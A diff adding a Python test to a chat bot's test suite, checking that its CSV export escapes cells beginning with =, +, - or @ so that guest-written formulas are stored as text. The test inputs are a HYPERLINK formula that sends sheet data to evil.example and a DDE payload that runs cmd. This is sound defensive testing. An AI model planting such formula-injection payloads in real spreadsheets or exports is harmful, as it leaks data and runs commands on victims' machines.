@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import sqlite3
 from collections import Counter
@@ -284,6 +286,21 @@ async def test_export_writes_files_that_say_they_are_simulated(testbot, tmp_path
         body = shared.file[1].decode()
         assert "What should we name the feature?" in body
         assert "Simulated conversation" in body and "offline demo model" in body
+
+
+async def test_a_csv_export_opens_in_a_spreadsheet_without_running_what_a_guest_wrote(testbot):
+    """A cell starting with =, +, - or @ is a formula to a spreadsheet: HYPERLINK or WEBSERVICE would send
+    the sheet's data to whoever wrote it. It is written as text."""
+    await team(testbot, "general", "Priya Nair")
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
+    await testbot.say(formula, user="guest")
+    await testbot.say("@SUM(1+1)*cmd|' /C calc'!A0", user="guest")
+    testbot.adapter.uploads = True
+    (shared,) = [s for s in await testbot.command("export csv") if s.kind == "file"]
+    rows = list(csv.DictReader(io.StringIO(shared.file[1].decode())))
+    said = [row["content"] for row in rows if row["source"] == "guest"]
+    assert said and not any(cell[:1] in "=+-@" for cell in said), said
+    assert said[0] == "'" + formula, "the words are kept, behind a quote a spreadsheet reads as 'text'"
 
 
 async def test_stop_unbinds_and_a_new_world_can_start(testbot):
